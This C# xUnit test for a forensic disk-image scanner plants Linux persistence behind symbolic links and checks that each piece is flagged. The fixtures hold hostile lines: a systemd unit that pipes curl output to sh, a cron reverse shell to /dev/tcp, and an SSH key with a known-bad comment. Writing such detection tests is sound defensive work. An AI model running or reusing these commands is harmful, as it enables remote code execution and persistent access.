using System.Diagnostics;
using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Persistence that stands behind symbolic links, and keys where only sshd's configuration says so.</summary>
public sealed class LinkedArtifactTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("deadbox-linked-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("triage")]
    [InlineData("standard")]
    public void What_a_link_leads_to_is_parsed_as_if_it_lay_there(string profile)
    {
        Write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n");
        Write("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n");
        Write("etc/ssh/sshd_config", "Include /etc/ssh/more/*.conf\n");
        Write("etc/ssh/more/keys.conf", "AuthorizedKeysFile /srv/keys/%u\n");
        Write("srv/keys/bob", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDFZGVhZGJveA== mdrfckr\n");
        Write("opt/x/unit", "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'\n[Install]\nWantedBy=multi-user.target\n");
        Write("opt/x/table", "* * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n");
        Link("etc/systemd/system/evil.service", "/opt/x/unit");
        Link("etc/systemd/system/multi-user.target.wants/evil.service", "/etc/systemd/system/evil.service");
        Link("etc/cron.d/job", "../../opt/x/table");
        string image = Path.Combine(_folder, "image.raw");
        using (Process make = Process.Start("bash", ["-c", "PATH=$PATH:/usr/sbin:/sbin exec mke2fs -q -F -t ext4 -d \"$1\" \"$2\" 16M", "bash", Path.Combine(_folder, "tree"), image]))
        {
            make.WaitForExit();
            Assert.Equal(0, make.ExitCode);
        }
        JsonArray findings = Deadbox.Scan(image, "--profile", profile).Report["findings"]!.AsArray();
        Assert.Contains(findings, finding => Is(finding, "L-UNIT.download-pipe-shell", "/etc/systemd/system/evil.service", 2));
        Assert.Contains(findings, finding => Is(finding, "L-CRON-SYS.reverse-shell", "/etc/cron.d/job", 1));
        Assert.Contains(findings, finding => Is(finding, "L-SSH-KEYS.known-bad-comment", "/srv/keys/bob", 1));
    }

    private static bool Is(JsonNode? finding, string rule, string path, int line) =>
        (string?)finding!["ruleId"] == rule && (string?)finding["path"] == path && (int?)finding["line"] == line && (string?)finding["severity"] is "critical" or "high";

    private void Write(string path, string text)
    {
        string full = Path.Combine(_folder, "tree", path);
        Directory.CreateDirectory(Path.GetDirectoryName(full)!);
        File.WriteAllText(full, text);
    }

    private void Link(string path, string target)
    {
        string full = Path.Combine(_folder, "tree", path);
        Directory.CreateDirectory(Path.GetDirectoryName(full)!);
        File.CreateSymbolicLink(full, target);
    }
}
